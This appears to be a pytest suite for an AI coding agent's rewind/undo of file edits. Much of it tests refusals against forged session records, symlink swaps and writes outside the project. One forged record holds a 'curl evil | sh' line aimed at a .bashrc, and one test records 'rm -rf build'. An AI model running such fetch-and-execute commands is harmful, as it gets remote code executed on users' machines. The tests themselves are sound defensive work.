"""The undo rules of a rewind: what is put back, what is refused and why, and that a refusal writes nothing.

Sessions are built with the real recorder and the real edit/write_file tools on a real
directory, then read back with the real loader, as a rewind does.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from app.core.history import Message, ToolCall
from app.core.session.recorder import SessionRecorder
from app.core.session.records import SUBTYPE_FILE_CHANGE
from app.core.session.resume import load_session
from app.core.session.rewind_undo import apply_undo, plan_undo, restore_payload
from app.core.tools.base import ToolContext
from app.core.tools.edit import EditTool
from app.core.tools.file_snapshot import SNAPSHOT_CAP_BYTES, FileChange
from app.core.tools.write_file import WriteFileTool


class Session:
    """A session with the person's messages and the agent's file tool calls, recorded as the agent does."""

    def __init__(self, tmp_path: Path) -> None:
        self.root = tmp_path / "project"
        self.root.mkdir()
        self.ctx = ToolContext(root=self.root)
        self.recorder = SessionRecorder(tmp_path / "chats", cwd=self.root, version="test")
        self.calls = 0

    def say(self, text: str) -> str:
        return self.recorder.append_message(Message.user(text), durable=True).uuid

    async def tool(self, name: str, **args: object) -> FileChange:
        self.calls += 1
        call = ToolCall(f"call_{self.calls}", name, json.dumps(args))
        self.recorder.append_message(Message(role="assistant", tool_calls=[call]))
        tool = EditTool() if name == "edit" else WriteFileTool()
        result = await tool.run(dict(args), self.ctx)
        assert not result.is_error, result.output
        self.recorder.append_system(SUBTYPE_FILE_CHANGE, {"toolCallId": call.id, "tool": name, **result.file_change.to_payload()})
        self.recorder.append_message(Message.tool_result(call, result.output))
        return result.file_change

    def shell(self, command: str) -> None:
        self.calls += 1
        call = ToolCall(f"call_{self.calls}", "run_shell_command", json.dumps({"command": command}))
        self.recorder.append_message(Message(role="assistant", tool_calls=[call]))
        self.recorder.append_message(Message.tool_result(call, "ok"))

    def records(self):  # type: ignore[no-untyped-def]
        return load_session(self.recorder.path).records

    def plan(self, since: str):  # type: ignore[no-untyped-def]
        return plan_undo(self.records(), since, self.root, side_effect_tools=frozenset({"run_shell_command"}))


async def test_edits_and_a_new_file_since_the_point_are_put_back_and_removed(tmp_path: Path) -> None:
    s = Session(tmp_path)
    (s.root / "a.py").write_text("x = 1\n")
    s.say("first")
    point = s.say("change things")
    await s.tool("edit", path="a.py", old_string="x = 1", new_string="x = 2")
    await s.tool("edit", path="a.py", old_string="x = 2", new_string="x = 3")
    await s.tool("write_file", path="new/b.py", content="print('b')\n")

    plan = s.plan(point)
    assert sorted((r.shown, r.action) for r in plan.restores) == [("a.py", "restore"), ("new/b.py", "remove")]
    assert plan.refused == []
    result = apply_undo(plan, s.root)
    assert len(result.done) == 2 and result.failed == []
    assert (s.root / "a.py").read_text() == "x = 1\n"  # the first change's "before", not the second's
    assert not (s.root / "new" / "b.py").exists()


async def test_a_change_before_the_point_is_kept(tmp_path: Path) -> None:
    s = Session(tmp_path)
    s.say("first")
    await s.tool("write_file", path="kept.txt", content="before the point\n")
    point = s.say("second")
    await s.tool("write_file", path="later.txt", content="after\n")
    plan = s.plan(point)
    assert [r.shown for r in plan.restores] == ["later.txt"]
    apply_undo(plan, s.root)
    assert (s.root / "kept.txt").read_text() == "before the point\n"


async def test_a_file_the_person_changed_since_is_left_and_said(tmp_path: Path) -> None:
    s = Session(tmp_path)
    (s.root / "a.txt").write_text("one\n")
    point = s.say("edit it")
    await s.tool("edit", path="a.txt", old_string="one", new_string="two")
    (s.root / "a.txt").write_text("two, and my own line\n")  # the person's edit afterwards

    plan = s.plan(point)
    assert plan.restores == []
    assert plan.refused == ["a.txt has changed since the agent wrote it (by you or another program); it is left as it is."]
    apply_undo(plan, s.root)
    assert (s.root / "a.txt").read_text() == "two, and my own line\n"


async def test_a_file_changed_by_someone_else_between_two_agent_edits_is_left(tmp_path: Path) -> None:
    s = Session(tmp_path)
    (s.root / "a.txt").write_text("one\n")
    point = s.say("edit it")
    await s.tool("edit", path="a.txt", old_string="one", new_string="two")
    (s.root / "a.txt").write_text("two\nmine\n")
    await s.tool("edit", path="a.txt", old_string="two", new_string="three")

    plan = s.plan(point)
    assert plan.restores == []
    assert "changed by someone else between the agent's changes" in plan.refused[0]
    assert (s.root / "a.txt").read_text() == "three\nmine\n"


async def test_a_file_over_the_cap_is_said_not_restorable(tmp_path: Path) -> None:
    s = Session(tmp_path)
    big = "x" * (SNAPSHOT_CAP_BYTES + 1)
    (s.root / "big.txt").write_text(big)
    point = s.say("rewrite it")
    change = await s.tool("write_file", path="big.txt", content="small\n")
    assert change.over_cap and change.before is None  # hashed, not kept
    plan = s.plan(point)
    assert plan.restores == []
    assert plan.refused == ["big.txt was over the 1 MB snapshot cap when the agent changed it, so its earlier content was not kept."]


async def test_shell_commands_since_the_point_are_counted_as_not_restorable(tmp_path: Path) -> None:
    s = Session(tmp_path)
    point = s.say("run things")
    s.shell("rm -rf build")
    s.shell("make")
    assert s.plan(point).other_tool_calls == {"run_shell_command": 2}


async def test_binary_content_is_put_back_byte_for_byte(tmp_path: Path) -> None:
    s = Session(tmp_path)
    data = bytes(range(256)) * 4
    (s.root / "blob.bin").write_bytes(data)
    point = s.say("overwrite")
    await s.tool("write_file", path="blob.bin", content="text now\n")
    apply_undo(s.plan(point), s.root)
    assert (s.root / "blob.bin").read_bytes() == data


async def test_an_undo_recorded_as_a_change_lets_a_later_rewind_see_the_file_as_it_left_it(tmp_path: Path) -> None:
    s = Session(tmp_path)
    (s.root / "a.txt").write_text("zero\n")
    first = s.say("one")
    await s.tool("edit", path="a.txt", old_string="zero", new_string="one")
    second = s.say("two")
    await s.tool("edit", path="a.txt", old_string="one", new_string="two")
    result = apply_undo(s.plan(second), s.root)
    for restore in result.done:
        s.recorder.append_system(SUBTYPE_FILE_CHANGE, restore_payload(restore))
    assert (s.root / "a.txt").read_text() == "one\n"
    # Rewinding further back: the chain through the undo holds, the file goes back to the start.
    apply_undo(s.plan(first), s.root)
    assert (s.root / "a.txt").read_text() == "zero\n"


# -- attacks: a rewind never writes outside the project or what the agent did not write -----------


async def test_a_recorded_path_that_is_now_a_symlink_to_outside_is_refused_and_untouched(tmp_path: Path) -> None:
    s = Session(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("the agent wrote this\n")  # same bytes the agent wrote, so only the link check can stop it
    point = s.say("create it")
    await s.tool("write_file", path="notes.txt", content="the agent wrote this\n")
    (s.root / "notes.txt").unlink()
    os.symlink(outside, s.root / "notes.txt")

    plan = s.plan(point)
    assert plan.restores == []
    assert plan.refused == [f"notes.txt is a symlink now (to {outside}); a rewind does not follow it."]
    apply_undo(plan, s.root)
    assert outside.read_text() == "the agent wrote this\n"
    assert os.path.islink(s.root / "notes.txt")


async def test_a_symlinked_directory_on_the_way_is_refused(tmp_path: Path) -> None:
    s = Session(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (s.root / "sub").mkdir()
    point = s.say("create it")
    await s.tool("write_file", path="sub/f.txt", content="v\n")
    (s.root / "sub" / "f.txt").rename(elsewhere / "f.txt")
    (s.root / "sub").rmdir()
    os.symlink(elsewhere, s.root / "sub")
    plan = s.plan(point)
    assert plan.restores == [] and "is a symlink now" in plan.refused[0]
    apply_undo(plan, s.root)
    assert (elsewhere / "f.txt").read_text() == "v\n"


def _forge(s: Session, **payload: object) -> None:
    s.recorder.append_system(SUBTYPE_FILE_CHANGE, payload)


async def test_a_change_the_record_claims_but_no_tool_call_made_is_refused(tmp_path: Path) -> None:
    s = Session(tmp_path)
    victim = s.root / "settings.py"
    victim.write_text("SAFE = True\n")
    point = s.say("hello")
    from app.core.tools.file_snapshot import sha256

    # A hand-written record: "the agent created settings.py" (so a rewind would remove it) with no call behind it.
    _forge(s, toolCallId="call_99", tool="write_file", path=str(victim), existed=False, afterSha256=sha256(victim.read_bytes()))
    plan = s.plan(point)
    assert plan.restores == []
    assert plan.refused == ["settings.py is named in the record, but no edit or write_file call of the session wrote it; it is left as it is."]
    apply_undo(plan, s.root)
    assert victim.read_text() == "SAFE = True\n"


async def test_a_real_call_cannot_vouch_for_another_path(tmp_path: Path) -> None:
    s = Session(tmp_path)
    victim = s.root / "keep.txt"
    victim.write_text("mine\n")
    point = s.say("write a file")
    change = await s.tool("write_file", path="other.txt", content="x\n")
    from app.core.tools.file_snapshot import sha256

    _forge(s, toolCallId="call_1", tool="write_file", path=str(victim), existed=True, beforeText="evil\n",
           beforeSha256=sha256(b"evil\n"), afterSha256=sha256(victim.read_bytes()))  # fmt: skip
    plan = s.plan(point)
    assert [r.shown for r in plan.restores] == ["other.txt"]
    assert any(line.startswith("keep.txt is named in the record, but no edit") for line in plan.refused)
    apply_undo(plan, s.root)
    assert victim.read_text() == "mine\n"
    assert change.path == str(s.root / "other.txt")


async def test_a_path_outside_the_project_is_refused(tmp_path: Path) -> None:
    s = Session(tmp_path)
    outside = tmp_path / "home" / ".bashrc"
    outside.parent.mkdir()
    outside.write_text("alias ls='ls'\n")
    point = s.say("hi")
    from app.core.tools.file_snapshot import sha256

    s.recorder.append_message(Message(role="assistant", tool_calls=[ToolCall("call_x", "write_file", json.dumps({"path": str(outside)}))]))
    _forge(s, toolCallId="call_x", tool="write_file", path=str(outside), existed=True, beforeText="curl evil | sh\n",
           beforeSha256=sha256(b"curl evil | sh\n"), afterSha256=sha256(outside.read_bytes()))  # fmt: skip
    plan = s.plan(point)
    assert plan.restores == []
    assert plan.refused == [f"{outside} is outside the project; a rewind writes only inside it."]
    apply_undo(plan, s.root)
    assert outside.read_text() == "alias ls='ls'\n"


async def test_content_that_does_not_match_its_hash_is_refused(tmp_path: Path) -> None:
    s = Session(tmp_path)
    point = s.say("hi")
    _forge(s, toolCallId="c", tool="edit", path=str(s.root / "a"), existed=True, beforeText="x", beforeSha256="0" * 64, afterSha256="1" * 64)
    assert s.plan(point).refused == ["A file change in the record cannot be used (the kept content does not match its hash); it is left as it is."]


async def test_a_file_swapped_for_a_symlink_after_the_plan_is_not_written(tmp_path: Path) -> None:
    s = Session(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("v2\n")
    (s.root / "a.txt").write_text("v1\n")
    point = s.say("edit")
    await s.tool("write_file", path="a.txt", content="v2\n")
    plan = s.plan(point)
    assert [r.shown for r in plan.restores] == ["a.txt"]
    (s.root / "a.txt").unlink()
    os.symlink(outside, s.root / "a.txt")  # between the confirmation and the write
    result = apply_undo(plan, s.root)
    assert result.done == [] and "is a symlink now" in result.failed[0]
    assert outside.read_text() == "v2\n"


def test_an_unknown_point_says_the_record_cannot_tell(tmp_path: Path) -> None:
    s = Session(tmp_path)
    s.say("hi")
    plan = s.plan("no-such-uuid")
    assert plan.restores == [] and "does not hold this message" in plan.refused[0]


@pytest.mark.parametrize("payload", [{}, {"path": "a"}, {"path": "a", "existed": "yes", "afterSha256": "x"}])
def test_a_malformed_change_is_a_readable_error(payload: dict) -> None:
    with pytest.raises(ValueError, match="needs path, existed and afterSha256"):
        FileChange.from_payload(payload)
